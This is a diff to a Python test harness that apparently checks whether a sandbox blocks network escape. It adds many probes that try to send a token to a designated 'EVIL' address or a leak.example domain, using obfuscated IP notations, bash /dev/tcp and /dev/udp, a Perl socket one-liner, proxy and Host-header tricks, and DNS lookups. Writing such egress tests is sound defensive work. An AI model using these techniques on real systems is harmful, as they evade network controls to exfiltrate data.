@@ -110,6 +110,86 @@ def unix():
     return True
 
 
+# --- hosts: what came of it the listener knows (target.py) -------------------------------------------------
+
+EVIL = "45.33.32.66"
+
+
+def calls(host, port=None):
+    with socket.create_connection((host, port or PORT), 2) as s:
+        s.send(NAME.encode())
+    return False
+
+
+def asks(name):
+    try:
+        socket.getaddrinfo(name, PORT)
+    except socket.gaierror:
+        pass
+    return False
+
+
+def fetches(url, **more):
+    from urllib.request import ProxyHandler, Request, build_opener
+    proxies = more.pop("proxies", {})
+    try:
+        build_opener(ProxyHandler(proxies)).open(Request(url, **more), timeout=2).read()
+    except OSError:
+        pass
+    return False
+
+
+def by_asyncio():
+    import asyncio
+
+    async def talk():
+        _, writer = await asyncio.open_connection(EVIL, PORT)
+        writer.write(NAME.encode())
+        await writer.drain()
+
+    asyncio.run(asyncio.wait_for(talk(), 2))
+    return False
+
+
+def by_asyncio_datagram():
+    import asyncio
+
+    async def talk():
+        transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(asyncio.DatagramProtocol, remote_addr=(EVIL, PORT))
+        transport.sendto(NAME.encode())
+        await asyncio.sleep(0.05)
+
+    asyncio.run(asyncio.wait_for(talk(), 2))
+    return False
+
+
+def child(*argv, **env):
+    subprocess.run(argv, env={**os.environ, **env}, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=4)
+    return False
+
+
+def by_aliases():
+    with open("aliases", "w") as f:
+        f.write("good %s.leak.example\n" % NAME)
+    return child("getent", "ahosts", "good", HOSTALIASES=os.path.abspath("aliases"))
+
+
+def by_res_query():
+    ctypes.CDLL("libc.so.6").res_query(b"%s.leak.example" % NAME.encode(), 1, 16, ctypes.create_string_buffer(4096), 4096)
+    return False
+
+
+def thread_calls():
+    import threading
+    t = threading.Thread(target=lambda: calls(EVIL))
+    t.start()
+    t.join()
+    return False
+
+
+PERL = 'use IO::Socket::INET; $s = IO::Socket::INET->new(PeerAddr => $ARGV[0], PeerPort => $ARGV[1], Proto => $ARGV[2]); print $s $ARGV[3]'
+
+
 def ran(*argv):
     subprocess.run(argv, stderr=subprocess.DEVNULL, timeout=4)
     return os.path.exists("ran")
@@ -167,6 +247,43 @@ PROBES = {
     "py_proc_mem": ("12", "L", "PALE", lambda: done(os.open, "/proc/%d/mem" % PALE, os.O_RDONLY)),
     "py_nice": ("14", "F", "PALE", lambda: done(os.setpriority, os.PRIO_PROCESS, PALE, 0)),
 }
+# What needs the addresses and names of a network of its own (net.sh).
+ALONE = {
+    "py_decimal": ("61", "S", "NET", lambda: calls("757145666")),
+    "py_hex_number": ("61", "S", "NET", lambda: calls("0x2d212042")),
+    "py_hex": ("61", "S", "NET", lambda: calls("0x2d.0x21.0x20.0x42")),
+    "py_octal": ("61", "S", "NET", lambda: calls("055.041.040.0102")),
+    "py_two_numbers": ("61", "S", "NET", lambda: calls("45.2170946")),
+    "py_three_numbers": ("61", "S", "NET", lambda: calls("45.33.8258")),
+    "py_mapped": ("61", "S", "NET", lambda: calls("::ffff:" + EVIL)),
+    "py_mapped_hex": ("61", "S", "NET", lambda: calls("::ffff:2d21:2042")),
+    "py_scope": ("61", "S", "NET", lambda: calls("fe80::66%lo")),
+    "py_thread_calls": ("43", "S", "NET", thread_calls),
+    "py_asyncio": ("43", "S", "NET", by_asyncio),
+    "py_asyncio_datagram": ("59", "S", "NET", by_asyncio_datagram),
+    "py_name": ("43", "S", "NET", lambda: calls("host.leak.example")),
+    "py_hosts_file": ("43", "S", "NET", lambda: calls("hosts.leak.example")),
+    "py_http": ("43", "S", "NET", lambda: fetches("http://hosts.leak.example:%d/%s" % (PORT, NAME))),
+    "py_host_header": ("62", "S", "NET", lambda: fetches("http://%s:%d/%s" % (EVIL, PORT, NAME), headers={"Host": "good.example"})),
+    "py_proxy": ("43", "S", "NET", lambda: fetches("http://good.example/" + NAME, proxies={"http": "http://%s:%d" % (EVIL, PORT)})),
+    "py_shell": ("43", "S", "NET", lambda: child("bash", "-c", "echo %s >/dev/tcp/%s/%d" % (NAME, EVIL, PORT))),
+    "py_shell_datagram": ("59", "S", "NET", lambda: child("bash", "-c", "echo %s >/dev/udp/%s/%d" % (NAME, EVIL, PORT))),
+    "py_perl": ("43", "S", "NET", lambda: child("perl", "-e", PERL, EVIL, str(PORT), "tcp", NAME)),
+    "py_perl_datagram": ("59", "S", "NET", lambda: child("perl", "-e", PERL, EVIL, str(PORT), "udp", NAME)),
+    "py_ask": ("56", "S", "NAMES", lambda: asks(NAME + ".leak.example")),
+    "py_ask_root": ("56", "S", "NAMES", lambda: asks(NAME + ".leak.example.")),
+    "py_ask_case": ("56", "S", "NAMES", lambda: asks(NAME + ".LEAK.Example")),
+    "py_ask_wide": ("56", "S", "NAMES", lambda: asks(NAME + ".\uff4c\uff45\uff41\uff4b.example")),
+    "py_ask_other_dot": ("56", "S", "NAMES", lambda: asks(NAME + "\u3002leak\uff0eexample")),
+    "py_ask_below": ("56", "S", "NAMES", lambda: asks(NAME + ".good.example.leak.example")),
+    "py_getent": ("56", "S", "NAMES", lambda: child("getent", "hosts", NAME + ".leak.example")),
+    "py_getent_bare": ("56", "S", "NAMES", lambda: child("env", "-i", "/usr/bin/getent", "ahosts", NAME + ".leak.example")),
+    "py_aliases": ("56", "S", "NAMES", by_aliases),
+    "py_search": ("56", "S", "NAMES", lambda: child("getent", "ahosts", NAME, LOCALDOMAIN="leak.example")),
+    "py_search_dots": ("56", "S", "NAMES", lambda: child("getent", "ahosts", NAME + ".sub", LOCALDOMAIN="leak.example", RES_OPTIONS="ndots:5")),
+    "py_by_tcp": ("56", "S", "NAMES", lambda: child("getent", "ahosts", NAME + ".leak.example", RES_OPTIONS="use-vc")),
+    "py_res_query": ("56", "S", "NAMES", by_res_query),
+}
 
 
 def attempt(name, probe):
@@ -180,7 +297,10 @@ def attempt(name, probe):
 
 
 def run():
-    for name, (_, _, _, probe) in PROBES.items():
+    for name, (_, _, _, probe) in {**PROBES, **ALONE}.items():
+        if name in ALONE and "ESCAPE_NET" not in os.environ:
+            print(name, "absent")
+            continue
         sys.stdout.flush()
         pid = os.fork()
         if pid == 0:
@@ -192,7 +312,7 @@ def run():
 def main():
     global PALE
     if sys.argv[1:2] == ["list"]:
-        for name, (rows, rings, promise, _) in PROBES.items():
+        for name, (rows, rings, promise, _) in {**PROBES, **ALONE}.items():
             print(name, rows, rings, promise)
         return
     if "PALE_SESSION_DIR" not in os.environ:
